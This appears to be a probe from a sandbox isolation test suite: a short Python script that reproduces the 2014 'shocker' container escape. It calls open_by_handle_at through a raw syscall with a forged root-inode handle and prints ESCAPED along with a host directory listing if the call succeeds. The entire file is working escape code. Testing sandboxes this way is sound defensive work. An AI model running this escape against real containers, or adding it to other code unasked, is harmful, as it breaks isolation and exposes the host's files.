"""Opens a file by its handle, past all paths (the "shocker" of 2014).

Escape: the line ESCAPED.
Tiers: os
"""

import ctypes
import os

LIBC = ctypes.CDLL(None, use_errno=True)


def call(*arguments):
    """The result of a system call, or minus its errno."""
    result = LIBC.syscall(*[ctypes.c_long(a) if isinstance(a, int) else a for a in arguments])
    return -ctypes.get_errno() if result == -1 else result


handle = ctypes.create_string_buffer(128)
handle[0:4] = (8).to_bytes(4, "little")
handle[4:8] = (1).to_bytes(4, "little")
handle[8:16] = (2).to_bytes(8, "little")
for mount in ["/project", "/usr", "/etc/ld.so.cache"]:
    fd = os.open(mount, os.O_RDONLY)
    got = call(304, fd, handle, os.O_RDONLY)
    print(mount, got)
    if got >= 0:
        print("ESCAPED", os.listdir(got))
